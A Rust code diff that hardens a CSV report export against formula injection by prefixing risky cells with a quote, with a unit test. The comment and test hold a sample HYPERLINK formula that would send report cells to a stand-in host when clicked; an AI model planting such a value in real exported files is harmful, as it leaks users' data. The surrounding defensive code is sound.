@@ -45,8 +45,8 @@ pub fn csv_report(rows: &[CsvRow]) -> Vec<u8> {
     line(&mut out, &header);
     for row in rows {
         let mut cells = vec![
-            row.code.clone(),
-            row.name.clone(),
+            inert(&row.code),
+            inert(&row.name),
             level_name_vi(&row.level).to_owned(),
             row.report.period.to_string(),
         ];
@@ -65,6 +65,18 @@ pub fn csv_report(rows: &[CsvRow]) -> Vec<u8> {
         line(&mut out, &cells);
     }
     out.into_bytes()
+}
+
+/// A text cell a spreadsheet will not run: one starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return is a formula to Excel and LibreOffice (an org unit named
+/// `=HYPERLINK("http://…?"&A2,"…")` would send the report's cells away when clicked), so it gets
+/// a leading `'`, which spreadsheets show as text and do not display.
+fn inert(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
 }
 
 /// A fraction as a percentage with one decimal: `2/3` → `66.7`, `0.8` → `80.0`, `1` → `100.0`.
@@ -93,6 +105,19 @@ fn line(out: &mut String, cells: &[String]) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn names_that_a_spreadsheet_would_run_are_written_as_text() {
+        let mut r = row("04711", "commune", &[]);
+        r.name = r#"=HYPERLINK("http://x.example/?"&A2&B2,"Chi tiet")"#.into();
+        let text = String::from_utf8(csv_report(&[r])).unwrap();
+        let data = text.lines().nth(1).unwrap();
+        assert!(data.starts_with(r#"04711,"'=HYPERLINK(""http://x.example/?""&A2&B2,""Chi tiet"")""#), "{data}");
+        for bad in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(inert(bad).starts_with('\''), "{bad:?}");
+        }
+        assert_eq!(inert("Xã Đàm Thủy"), "Xã Đàm Thủy");
+    }
     use crate::counters::Counters;
     use crate::report::report;
     use crate::targets::Targets;
